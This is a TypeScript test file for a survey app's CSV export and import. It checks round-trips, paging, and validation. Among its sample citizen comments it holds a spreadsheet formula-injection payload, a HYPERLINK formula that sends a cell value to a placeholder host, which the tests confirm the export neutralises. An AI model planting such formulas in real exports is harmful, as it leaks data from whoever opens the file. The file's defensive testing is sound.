import { randomUUID } from 'node:crypto';
import { beforeAll, describe, expect, it } from 'vitest';
import { shippedInstruments } from '$lib/survey/shipped';
import { testEngines } from '../db/testing';
import type { Database } from '../db';
import { aUser } from '../factories';
import * as users from '../people/users.repository';
import { indexPlan, seedUnits, traced, useTestDatabase } from '../testing';
import { exportText } from './exportCsv';
import { importCsv, paperId } from './importCsv';
import { ingest } from '../responses/ingest';

const service = shippedInstruments.find((i) => i.code === 'sipas-service-2023')!;
const whole = { from: '2024-01-01', to: '2026-12-31' };

/** Comments as citizens type them, formulas included: a spreadsheet must not run them. */
const comments = [
	'Cán bộ nhiệt tình; thủ tục nhanh, gọn.',
	'=HYPERLINK("http://x.example/?q="&A1,"Bấm vào đây")',
	'+84 912 345 678 gọi lại giúp',
	'-giảm giấy tờ',
	'@SUM(1+1)',
	"'=đã có dấu nháy"
];

const adminOf = (db: Database) => aUser(db, { username: 'ad', role: 'admin', unitCode: null });

describe.each(testEngines())('CSV interchange [%s]', (engine) => {
	const source = useTestDatabase(engine);
	const target = useTestDatabase(engine);
	let admin: users.User;
	let targetAdmin: users.User;
	beforeAll(async () => {
		await seedUnits(source.db);
		await seedUnits(target.db);
		admin = await adminOf(source.db);
		targetAdmin = await adminOf(target.db);
		const batch = Array.from({ length: 60 }, (_, i) => ({
			id: randomUUID(),
			instrument: 'sipas-service-2023',
			instrumentVersion: 1,
			unit: i % 3 ? 'DEMO.X01' : 'DEMO.X02',
			channel: (['kiosk', 'paper', 'web'] as const)[i % 3],
			submittedAt: new Date(Date.UTC(2025, 6, 1, 2) + i * 7 * 86_400_000).toISOString(),
			answers: {
				A1: (i % 5) + 1,
				B2: i % 7 ? 4 : null,
				E1: i % 4 ? 'NA' : 5,
				priorities: i % 2 ? ['online', 'faster'] : [],
				field: i % 5 ? 'Hộ tịch, "khai sinh"' : 'Đất đai\nnhiều dòng',
				gender: i % 2 ? 'female' : null
			},
			...(i % 6 ? {} : { comment: comments[(i / 6) % comments.length] }),
			...(i % 2 ? {} : { serial: `P-${i}`, batch: 'Đợt 1/2025' })
		}));
		const results = await ingest(source.db, batch, { user: admin }, { history: true });
		if (!results.every((r) => r.status === 'created'))
			throw new Error(JSON.stringify(results.find((r) => r.status !== 'created')));
	});

	it('export → import into an empty database → export gives the same file', async () => {
		const first = await exportText(source.db, {
			units: ['DEMO', 'DEMO.X01', 'DEMO.X02'],
			instrument: service,
			...whole
		});
		const head =
			'\uFEFFid,instrument,instrument_version,unit,channel,submitted_at,serial,batch,A1,A2,A3,B1,';
		expect(first.slice(0, head.length)).toBe(head);
		// A header and 60 rows; line breaks inside quoted cells are plain LF.
		expect(first.split('\r\n').filter(Boolean)).toHaveLength(61);
		// No cell begins a formula: risky text goes out behind an apostrophe, and comes back without.
		expect(first).toContain(`"'=HYPERLINK(""http://x.example/?q=""&A1,""Bấm vào đây"")"`);
		expect(first).toContain(",''=đã có dấu nháy");
		expect(first.match(/(^|,)"?[=+@\-\t]/gm)).toBeNull();
		const imported = await importCsv(target.db, first, {
			actor: { user: targetAdmin },
			dryRun: false
		});
		expect(imported).toEqual({ created: 60, duplicate: 0, errors: [], dryRun: false });
		const second = await exportText(target.db, {
			units: ['DEMO', 'DEMO.X01', 'DEMO.X02'],
			instrument: service,
			...whole
		});
		expect(second).toBe(first);
		expect(
			await importCsv(target.db, first, { actor: { user: targetAdmin }, dryRun: false })
		).toEqual({ created: 0, duplicate: 60, errors: [], dryRun: false });
	});

	it('exports in pages without repeating or skipping a row, ties and microseconds included', async () => {
		const idsOf = (text: string) =>
			text
				.split('\r\n')
				.slice(1)
				.map((l) => l.split(',')[0])
				.filter((id) => /^[0-9a-f-]{36}$/.test(id!));
		const filter = { units: ['DEMO.X01'], instrument: service, ...whole };
		const all = idsOf(await exportText(source.db, filter));
		expect(new Set(all).size).toBe(40);
		// Pages of 3 whose edges fall inside runs of equal times and between times that differ
		// by a microsecond only (a cursor rounded to the millisecond would repeat or skip rows).
		await source.db.query(
			`update responses set submitted_at = '2025-06-01T00:00:00Z'::timestamptz
				+ (case when ascii(id::text) % 2 = 0 then interval '1 microsecond' else interval '0' end)
			where unit_code = 'DEMO.X01' and id = any($1::uuid[])`,
			[all.slice(5, 25)]
		);
		const paged = idsOf(await exportText(source.db, filter, 3));
		expect(paged).toHaveLength(40);
		expect(new Set(paged)).toEqual(new Set(all));
		expect(paged).toEqual(idsOf(await exportText(source.db, filter, 1000)));
	});

	it("reads each export page in the index's order, so a page costs its own rows only", async () => {
		const { q, reads } = traced(source.db);
		const filter = { units: ['DEMO.X02'], instrument: service, ...whole };
		expect(await exportText(q, filter, 7)).toBe(await exportText(source.db, filter));
		const page = reads.findLast((read) => read.sql.includes('from responses'))!;
		// As at a million answers, where the index beats reading the table: the plan must take
		// the page's order from the (unit, questionnaire, time, id) index and stop at the page's end.
		const plan = await indexPlan(source.db, page);
		expect(plan).toContain('responses_export');
		expect(plan).not.toMatch(/"Node Type": ?"(Incremental )?Sort"/);
	});

	it('imports nothing when a row is wrong, naming row, column and reason; a dry run stores nothing', async () => {
		const header = 'instrument,unit,submitted_at,serial,A1,E1,trips,comment\n';
		const csv =
			header +
			'sipas-service-2023,DEMO.X03,2025-09-04,S-1,5,NA,1,\n' +
			'sipas-service-2023,DEMO.X03,04/09/2025,S-2,7,,2,\n' +
			'sipas-service-2023,NOWHERE,2025-09-04,S-3,4,,,\n' +
			'nope,DEMO.X03,2025-09-04,S-4,4,,,\n' +
			'sipas-service-2023,DEMO.X03,2025-09-04,,4,,,\n';
		const report = await importCsv(target.db, csv, { actor: { user: targetAdmin }, dryRun: false });
		expect(report.created).toBe(0);
		expect(report.errors).toEqual([
			{
				row: 3,
				column: 'A1',
				value: '7',
				reason: 'A1 must be a whole number from 1 to 5',
				key: 'issue.level',
				params: { code: 'A1', value: '7', top: 5 }
			},
			{
				row: 4,
				column: 'unit',
				value: 'NOWHERE',
				reason: 'no unit NOWHERE',
				key: 'issue.noUnit',
				params: { unit: 'NOWHERE' }
			},
			{ row: 5, column: 'instrument', value: 'nope', reason: 'no instrument nope' },
			{ row: 6, column: 'id', value: '', reason: 'a row needs an id or a serial number' }
		]);
		const good = header + 'sipas-service-2023,DEMO.X03,2025-09-04,S-1,5,NA,1,Tốt\n';
		expect(
			await importCsv(target.db, good, { actor: { user: targetAdmin }, dryRun: true })
		).toEqual({ created: 1, duplicate: 0, errors: [], dryRun: true });
		const exported = () =>
			exportText(target.db, { units: ['DEMO.X03'], instrument: service, ...whole });
		expect((await exported()).split('\r\n').filter(Boolean)).toHaveLength(1);
		expect(
			await importCsv(target.db, good, { actor: { user: targetAdmin }, dryRun: false })
		).toMatchObject({ created: 1, errors: [] });
		// Same sheet again: the serial gives the same id, so nothing is added.
		expect(
			await importCsv(target.db, good, { actor: { user: targetAdmin }, dryRun: false })
		).toMatchObject({ created: 0, duplicate: 1 });
		const text = await exported();
		expect(text).toContain(paperId('DEMO.X03', 'sipas-service-2023', 'S-1'));
		expect(text).toContain('2025-09-04T12:00:00+07:00');
	});

	it('reports missing and unknown columns, and staff outside their unit', async () => {
		expect(
			(
				await importCsv(target.db, 'unit,A1\nDEMO.X01,5\n', {
					actor: { user: targetAdmin },
					dryRun: false
				})
			).errors.map((e) => e.column)
		).toEqual(['instrument', 'submitted_at']);
		const unknown = await importCsv(
			target.db,
			'instrument,unit,submitted_at,serial,A1,Z9\nsipas-service-2023,DEMO.X01,2025-09-02,Q1,5,1\n',
			{ actor: { user: targetAdmin }, dryRun: false }
		);
		expect(unknown.errors).toEqual([
			{ row: 1, column: 'Z9', value: 'Z9', reason: 'unknown column Z9' }
		]);
		const clerk = { ...targetAdmin, role: 'staff' as const, unitCode: 'DEMO.X02' };
		const foreign = await importCsv(
			target.db,
			'instrument,unit,submitted_at,serial,A1\nsipas-service-2023,DEMO.X01,2025-09-02,Q2,5\n',
			{ actor: { user: clerk }, dryRun: false }
		);
		expect(foreign.errors[0]).toMatchObject({ row: 2, column: 'unit' });
	});
});
